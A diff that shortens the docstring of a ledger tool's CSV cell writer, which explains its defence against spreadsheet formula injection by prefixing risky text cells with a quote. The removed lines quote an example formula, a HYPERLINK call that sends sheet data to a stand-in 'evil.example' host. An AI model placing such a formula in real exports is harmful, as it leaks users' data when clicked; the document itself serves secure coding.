@@ -1,12 +1,5 @@
-"""A value as a CSV cell: what every CSV the ledger writes (`ledger export --format csv`, `ledger report ...
---format csv`) puts in a cell.
-
-A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and some also after a leading tab or carriage
-return) as a formula: a run named `=HYPERLINK("https://evil.example/?"&A1,"open")` would send the sheet's data
-away when clicked. OWASP's rule (CSV injection): such a text cell gets a leading `'`, which spreadsheets show as
-text and do not run. Numbers are written as they are (a negative count stays a number); only text is changed,
-so a run named `-x` is exported as `'-x`.
-"""
+"""A value as a CSV cell, in every CSV the ledger writes: a text cell a spreadsheet would run as a formula
+(OWASP's CSV injection) gets a leading `'`; numbers are written as they are."""
 
 from __future__ import annotations
 
